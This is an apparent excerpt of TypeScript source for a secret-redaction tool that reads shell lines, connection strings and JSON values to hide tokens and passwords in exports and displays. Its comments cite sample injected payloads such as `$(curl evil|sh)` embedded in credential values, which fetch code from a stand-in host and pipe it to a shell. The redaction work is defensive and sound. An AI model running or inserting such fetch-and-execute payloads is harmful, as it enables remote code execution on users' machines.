  // text of the line (fix179: `srv "see https://h/p?token='"X Y"`: the reading hid `'"X`, and `Y"`
  // then closed the quote, `Y` read as the value's; the export took it out in a later round, the
  // display showed it); its run-time parts stay in sight (see `shownLeftOpen`).
  const telling = tellingLiteral(line);
  const asks = () => "SHELL_COMMAND";
  let once: string | undefined;
  const reading = () => (once ??= lineReading(line, undefined, asks, shell, display)?.safe ?? line);
  if (telling === undefined || closesInItself(line, true))
    return lineReading(line, hide, scriptName, shell, display);
  const readsAsIs =
    // A program's literal written around a run-time part, read on such a line, may leave another
    // in clear (r64s #5): the line is read so only when it holds none.
    !programValues(line).some((value) => value.runTime) &&
    tellingLiteral(reading()) === undefined &&
    (lineReading(line, (text) => text, asks, shell, display)?.safe ?? line) === line;
  let says = false;
  const again =
    display &&
    readsAsIs &&
    lineReading(
      reading(),
      (secret) => {
        // Flagged again for text of the line, not for the reading's own references.
        says ||= withoutReferences(secret).trim() !== "";
        return secret;
      },
      asks,
      shell,
      display,
    )?.sign === SecretSign.Query &&
    says;
  if (readsAsIs && !again) return lineReading(line, hide, scriptName, shell, display, true);
  const before = line.slice(0, telling.at);
  const read = lineReading(before, hide, scriptName, shell, display);
  const put = (text: string) => (hide ? hide(text, telling.name) : reference(telling.name));
  // Shown (a pasted line's display, or an argument's given `hide`, not an export's names), a
  // default's word left open keeps the run-time parts written in it in sight (fix179:
  // `TOKEN=${V:-J`id`\"`, read so, would hide the payload with the value).
  // So does a value hidden to the end only because the reading, read again, is flagged again.
  const shown = (display || (hide !== undefined && hide !== naming?.hide)) && (telling.inDefault || again);
  // A `}` that closes a `${NAME:-` opened before the value, as tools-mcp closes it (its first `}`,
  // a quote or a backslash before it text too), is kept, the text on each side hidden apart
  // (fix186: `srv ${V:-TOKEN=Q"J}` was exported `${V:-TOKEN=${TOKEN}`, whose default tools-mcp keeps
  // open as written, so the value filled back never reached the server). Only where the line ends
  // at such a `}`: text after it (`srv TOKEN=${V:-JQ}--Q"QQJJ`) is hidden to the line's end with
  // the value, `}` and all, as before.
  // Else each reference tools-mcp fills in the text (`${X}`, a default's `${NAME:-` and `}` opened
  // in it) is kept as written, the text around it hidden apart (r74d: `srv ${V:-TOKEN=Q"${X}J}` was
  // exported `${V:-TOKEN=${TOKEN}}`, `${TOKEN}` standing for `Q"${X}J`: tools-mcp does not read a
  // value it fills again, so the server got `${X}` as written where the original gave it X's value).
  // Not where a `${NAME:-` opened before the value is never closed: tools-mcp keeps the text from
  // there as written, references and all.
  const { closes, openBefore } = closedDefaults(line, telling.at);
  const hidden = (text: string) =>
    shown ? shownLeftOpen(text, hide, put) : openBefore ? put(text) : aroundToolsReferences(text, put);
  let safe = read?.safe ?? before;
  let from = telling.at;
  if (closes.at(-1) === line.length - 1)
    for (const close of closes) {
      if (close > from) safe += hidden(line.slice(from, close));
      safe += "}";
      from = close + 1;
    }
  if (from === telling.at) safe += hidden(line.slice(from));
  return { sign: read?.sign ?? SecretSign.Flag, safe };
}

/**
 * Where in `line`, from `at` on, a `}` closes a `${NAME:-` opened before `at`, as tools-mcp reads
 * references (`${NAME}` and `${NAME:-…}` only, a default's word text to its first `}` that no inner
 * reference takes; no quote or backslash read), and whether one opened before `at` is never closed
 * (`openBefore`). One pass.
 */
function closedDefaults(line: string, at: number): { closes: number[]; openBefore: boolean } {
  const closes: number[] = [];
  const open: number[] = [];
  for (let i = 0; i < line.length; i += 1) {
    if (line[i] === "}" && open.length > 0) {
      if ((open.pop() as number) < at && i >= at) closes.push(i);
      continue;
    }
    if (line[i] !== "$" || line[i + 1] !== "{") continue;
    TOOLS_REFERENCE.lastIndex = i;
    const head = TOOLS_REFERENCE.exec(line);
    if (head === null) continue;
    if (head[1] === ":-") open.push(i);
    i = TOOLS_REFERENCE.lastIndex - 1;
  }
  return { closes, openBefore: open.length > 0 && (open[0] as number) < at };
}

/** `${NAME}` or `${NAME:-`, as tools-mcp reads a reference where a `${` stands. Sticky. */
const TOOLS_REFERENCE = /\$\{[A-Za-z_][A-Za-z0-9_]*(\}|:-)/y;

/**
 * `text` with each reference tools-mcp reads in it kept as written (`${NAME}`, and a `${NAME:-` with
 * the `}` that closes it there: see `closedDefaults`) and each stretch of other text between them
 * written as `literal(stretch)`, so the references filled back give tools-mcp `text` as written and
 * it fills the references kept as it fills the original's. A `}` closing no `${NAME:-` opened in
 * `text` is text; from a `${NAME:-` never closed in it on, the text is one stretch (tools-mcp keeps
 * it as written, references and all). Two passes.
 */
function aroundToolsReferences(text: string, literal: (text: string) => string): string {
  const heads: number[] = [];
  for (let i = 0; i < text.length; i += 1) {
    if (text[i] === "}" && heads.length > 0) heads.pop();
    else if (text[i] === "$" && text[i + 1] === "{") {
      TOOLS_REFERENCE.lastIndex = i;
      const head = TOOLS_REFERENCE.exec(text);
      if (head === null) continue;
      if (head[1] === ":-") heads.push(i);
      i = TOOLS_REFERENCE.lastIndex - 1;
    }
  }
  const end = heads[0] ?? text.length;
  let out = "";
  let from = 0;
  let open = 0;
  const keep = (start: number, end: number) => {
    if (start > from) out += literal(text.slice(from, start));
    out += text.slice(start, end);
    from = end;
  };
  for (let i = 0; i < end; i += 1) {
    if (text[i] === "}" && open > 0) {
      open -= 1;
      keep(i, i + 1);
      continue;
    }
    if (text[i] !== "$" || text[i + 1] !== "{") continue;
    TOOLS_REFERENCE.lastIndex = i;
    const head = TOOLS_REFERENCE.exec(text);
    if (head === null) continue;
    if (head[1] === ":-") open += 1;
    keep(i, TOOLS_REFERENCE.lastIndex);
    i = TOOLS_REFERENCE.lastIndex - 1;
  }
  if (from === 0) return literal(text);
  return from < text.length ? out + literal(text.slice(from)) : out;
}

/**
 * For the display: `text`, a default's word left open (to the line's end, see `lineSecrets`), with
 * each stretch of text that is not blank written as `literal(stretch)` and each run-time part
 * closed in it (`$(…)`, a backtick's, a `${…}` a shell expands) shown as the display shows one (see
 * `shownShellPart`: its own literal text hidden, its payload in sight). A `$(…)` or backtick left
 * open is kept as written, a `${…}` left open is literal text. Quotes are not read: the shell
 * refuses the line. One pass, each part passed over once.
 */
function shownLeftOpen(
  text: string,
  hide: SecretHide | undefined,
  literal: (text: string) => string,
): string {
  let out = "";
  let stretch = "";
  const flush = () => {
    out += /\S/.test(stretch) ? literal(stretch) : stretch;
    stretch = "";
  };
  for (let i = 0; i < text.length; ) {
    const opener = runTimeOpenerAt(text, i);
    const { end, closed } = opener === "" ? { end: i, closed: false } : expansionEnd(text, i);
    if (opener === "" || (opener === "{" && !closed)) {
      const step = text[i] === "\\" ? 2 : 1;
      stretch += text.slice(i, i + step);
      i += step;
      continue;
    }
    flush();
    out += closed ? shownShellPart(text.slice(i, end), hide, literal) : text.slice(i, end);
    i = Math.max(i + 1, end);
  }
  flush();
  return out;
}

/**
 * @internal True when `line` is one a shell refuses (a quote or a run-time part left open) holding a
 * telling name's literal value: the refused-line rule hides that value (see `lineSecrets`), and a
 * shell's own command so written may hold a credential (see `shellScript`; fix182: `sh -c 'srv
 * --token ${V:-X'` kept `X` in clear in both views, its telling word given by a reference to
 * `scriptTells`, and nothing flagged by the reading of a line the shell accepts).
 */
export function refusedLineTells(line: string): boolean {
  return tellingLiteral(line) !== undefined && !closesInItself(line, true);
}

/**
 * A name whose whole name tells (see `wholeNameTells`) written before a literal value: `NAME=X`,
 * `name: X`, `--name X`, `--name=X`, `${NAME:-X`, the value perhaps opened by quotes, or the word of
 * a default written as the value (`NAME=${V:-X`: `inDefault`); a value that
 * starts with a `$`, a backtick, a blank or a `;` is none, nor, unquoted, an operator, a redirect
 * or a comment's `#`. The first one's value's start (its quotes included) and
 * its name; undefined when there is none. One pass (a name is read where a run of name characters starts).
 */
function tellingLiteral(text: string): { at: number; name: string; inDefault: boolean } | undefined {
  for (const match of text.matchAll(TELLING_BEFORE_VALUE)) {
    const [whole, dashes = "", name = "", blank] = match;
    if (blank !== undefined && dashes === "") continue;
    // A name written percent-encoded (a URL's query pair, `&%74oken=${V:-X`) is read decoded too
    // (fix183: `sh -c 'srv https://h/p?a=1&%74oken=${V:-X'` kept `X` in clear in both views).
    if (!wholeNameTells(name) && !(name.includes("%") && wholeNameTells(percentDecoded(name)))) continue;
    let at = (match.index ?? 0) + whole.length;
    // A parameter's default left open (`${DB_PASSWORD:-X`): its operator is no value.
    if (text.startsWith("${", (match.index ?? 0) - 2) && /[-=?+]/.test(text[at] ?? "")) at += 1;
    let k = at;
    let named = name;
    while (text[k] === '"' || text[k] === "'") k += 1;
    // A default after the name (`TOKEN=${V:-X`, `--token "${V:-${W:-X`): the value is its word,
    // named by the innermost name that tells (fix179: `srv TOKEN=${V:-J…` kept `J` in clear; a
    // closed one, `TOKEN=${V:-'J'x}"`, was written again in '…'), and, in one left open, a
    // run-time part first in it too when literal text beside says something.
    let inDefault = false;
    const open = text[k] === "$" && !expansionEnd(text, k).closed;
    if (text[k] === "$")
      for (let head = defaultHead(text, k); head !== undefined; head = defaultHead(text, k)) {
        if (wholeNameTells(head.name)) named = head.name;
        inDefault = true;
        at = head.end;
        k = at;
        // A default's word may start with blanks: they are the word's.
        while (/[\s'"]/.test(text[k] ?? "")) k += 1;
      }
    const c = text[k];
    // Unquoted, an operator or a redirect (`--with-token < t.txt`, `--auth && …`) is no value, nor
    // a `#` after a blank, which starts a comment (r64s #3).
    const operator = k === at && (/[<>&|()]/.test(c ?? "") || (c === "#" && /\s/.test(text[at - 1] ?? "")));
    let runTimeFirst = false;
    if (open && inDefault && (c === "$" || c === "`"))
      shownLeftOpen(text.slice(k), undefined, (literal) => {
        runTimeFirst ||= /[A-Za-z0-9]/.test(literal);
        return literal;
      });
    if (c === undefined || (/[\s;$`]/.test(c) && !runTimeFirst) || operator) continue;
    // `name: X` (a blank after the colon), which a command line's reading leaves but in prose, is
    // no value when X is a word of prose written with an apostrophe (`credentials: Azure's
    // ?code=…`, `token: don't`: r64s #3), the quote the shell would open.
    const colon = dashes === "" && /^\s*:\s+$/.test(whole.slice(name.length));
    PROSE_APOSTROPHE.lastIndex = k;
    if (colon && PROSE_APOSTROPHE.test(text)) continue;
    return { at, name: named, inDefault };
  }
  return undefined;
}

/** The default's head (`${NAME:-`, see `DEFAULT_OPEN`) written at `at` of `text`: its `NAME` and where its word starts. */
function defaultHead(text: string, at: number): { name: string; end: number } | undefined {
  DEFAULT_OPEN.lastIndex = at;
  const head = DEFAULT_OPEN.exec(text);
  return head ? { name: head[1] ?? "", end: DEFAULT_OPEN.lastIndex } : undefined;
}

/** A word of prose holding an apostrophe (`Azure's`, `don't`) and ending there (see `tellingLiteral`). Sticky. */
const PROSE_APOSTROPHE = /[A-Za-z]{1,64}'[A-Za-z]{1,2}(?=[\s.,;:!?]|$)/y;

/**
 * A name (a flag's, with its dashes) and what ends it before a value: `=` or `:`, or a flag's blank.
 * Read after no name character or `-`, or right after a default's operator (`${V:---token=X`: the
 * `-` of `:-` stands before the flag; fix187: such a flag was never read, its value kept in clear).
 */
const TELLING_BEFORE_VALUE =
  /(?:(?<![\w.%-])|(?<=\$\{[A-Za-z_][A-Za-z0-9_]*:?[-=?+]))(-{0,2})([A-Za-z_%][\w.%-]*)(?:\s*[=:]\s*|(\s+))/g;

/** `name` with each `%XX` it writes as the character it encodes (a query pair's name, see `tellingLiteral`). */
const percentDecoded = (name: string) =>
  name.replace(/%([0-9A-Fa-f]{2})/g, (_escape, hex: string) => String.fromCharCode(Number.parseInt(hex, 16)));

/** See `lineSecrets`: the reading of a line with no line break or heredoc. */
function lineReading(
  line: string,
  hide: SecretHide | undefined,
  scriptName: () => string,
  shell: boolean,
  display: boolean,
  refused = false,
): ArgFound | undefined {
  const named = literalNamer(hide);
  // Shown (the display of a pasted line, which a shell reads), a telling pair's value that runs a
  // command (`TOKEN="x$(curl …|sh)"`) keeps that command in sight, as a command line's value
  // does (r57-1: read so only in the display; the export keeps the whole value).
  // For the ODBC values below: whether the shell accepts the line, and one walk over it (values come in order).
  let accepted: boolean | undefined;
  let walk: { at: number; read: ReturnType<typeof shellStepper> } | undefined;
  const shown =
    display && shell
      ? (from: number, to: number, name: string) => {
          // The value read alone, so a part left open in it is read to the value's end, not the
          // line's (r58-2: each pair's walk once ran to the line's end).
          const value = line.slice(from, to);
          // Only a value whose quotes and run-time parts all close in it (r60-1: `Password="x$(";Host=…`
          // shown alone left a quote open, and the line read after the pairs took the next pair into it)
          // — or an ODBC `{…}` value on a line the shell accepts, read in the line as the shell reads
          // it (r63-5: `Pwd={$(curl evil|sh)"};Host=h"`, whose quote closes after the pair's `;`, was
          // hidden whole, payload and all): its payload shown, its literal text hidden in place.
          if (!closesInItself(value)) {
            if (value[0] !== "{") return undefined;
            accepted ??= closesInItself(line, true);
            if (!accepted) return undefined;
            walk ??= { at: 0, read: shellStepper(line) };
            return shownInPlace(
              line,
              walk,
              [from, to],
              (text) => named(text, name),
              (text, quoted) => shownShellPart(text, hide, (literal) => named(literal, name), quoted),
            );
          }
          return shownInPlace(
            value,
            { at: 0, read: shellStepper(value) },
            [0, value.length],
            (text) => named(text, name),
            (text, quoted) => shownShellPart(text, hide, (literal) => named(literal, name), quoted),
          );
        }
      : undefined;
  const pairs = connectionString(line, shell)
    ? connectionPairs(line, ARG_RULES, named, hide, shown, shell)
    : undefined;
  // An argument's line (no `shell`: no shell reads the argument as pasted, and no later round reads
  // it as one URL) continues a URL's query past an `&` as the display does, in both views (fix180:
  // `--run "srv https://h/p?b=1&token=\"${X}&J}api_key=-J-J"` kept `-J-J` in both views). A pasted
  // line's export keeps the narrow reading: its later round drops such a pair whole with the URL's query.
  const shownPairs = display || !shell;
  if (pairs === undefined)
    return commandLineSecrets(line, hide, scriptName, display, false, shownPairs, refused);
  // What the pairs' reading leaves, read as a command line (a value holding `--token X`).
  const rest = commandLineSecrets(pairs.safe, hide, scriptName, display, false, shownPairs, refused);
  return { sign: pairs.sign, safe: rest?.safe ?? pairs.safe };
}

/**
 * True when every quote and every run-time part (`$(…)`, `${…}`, `$[…]`, a backtick) of `value`
 * closes in it. A part left open runs to the value's end, so only the last part can be: it alone is
 * asked. Read as a whole `line`, a `#` that starts a word outside quotes starts a comment to the
 * end, whose quotes are none (r64s #3: `… # don't` on a line the shell accepts). Linear.
 */
function closesInItself(value: string, line = false): boolean {
  const read = shellStepper(value);
  let lastPart = -1;
  let quoted = false;
  let end = value.length;
  for (let i = 0; i < end; ) {
    if (line && !quoted && value[i] === "#" && (i === 0 || COMMENT_AFTER.test(value[i - 1] as string)))
      end = i;
    else {
      const next = read(i);
      if (next === undefined) return false;
      if (next.kind === "part") lastPart = i;
      // Outside run-time parts (each one step), quote steps open and close quotes in turn.
      if (next.kind === "quote") quoted = !quoted;
      i += next.step;
    }
  }
  const text = value.slice(0, end);
  const c = text[lastPart];
  const opens = c === "`" || (c === "$" && /[{([]/.test(text[lastPart + 1] ?? ""));
  return !(opens && !expansionEnd(text, lastPart).closed) && !quoteOpenAtEnd(text, 0);
}

/** What, right before a `#`, makes it start a word and so a comment: a blank, or an operator's `;`, `&`, `|`, `(`, `)`. */
const COMMENT_AFTER = /[\s;&|()]/;

/**
 * A pasted line read for display (see `withoutCommandLineSecrets`): one connection string as
 * `lineSecrets` reads a pasted `command` (a telling pair's whole value, a `;` inside braces or
 * spaces included: `Pwd={a;b X}`, `Password=X two;`), anything else as a command line; a script
 * is rewritten in place, never replaced whole.
 */
export function shownLineSecrets(line: string, hide: SecretHide | undefined): ArgFound | undefined {
  if (LINE_BREAK.test(line) || HEREDOC.test(line)) return commandLineSecrets(line, hide, undefined, true);
  return lineSecrets(line, hide, () => "SHELL_COMMAND", true, true);
}

/** Scans a JSON container; `name` is the field a list's entries inherit (an object's entries have their own). */
function scanFree(
  at: string,
  container: Record<string, unknown> | unknown[],
  name: string | undefined,
  visit: SecretVisit,
  hide?: SecretHide,
): void {
  const entries: [string | number, unknown][] = Array.isArray(container)
    ? container.map((item, index) => [index, item])
    : Object.entries(container);
  for (const [key, value] of entries) {
    const path = child(at, key);
    const field = typeof key === "string" ? key : name;
    if (typeof value === "string") {
      const put = (next: string) => ((container as Record<string | number, unknown>)[key] = next);
      // Under a name that tells nothing, read as an argument is (see `namedValueSecrets`): a
      // connection string's pair (`Server=db;Password=X`), a list's (`a=1&password=X`), an
      // assignment's (`API_KEY=X`) (r85a), and a string holding blanks as a command line
      // (`mysql -u root -pX db`, `PGPASSWORD=X psql`; r86d: exported in clear).
      const read = namedValueSecrets(value, field ?? "", hide, () => "SHELL_COMMAND");
      if (read) visit({ path, sign: read.sign }, put, read.safe);
    } else if (Array.isArray(value) || isPlainObject(value)) {
      scanFree(path, value, field, visit, hide);
    }
  }
}
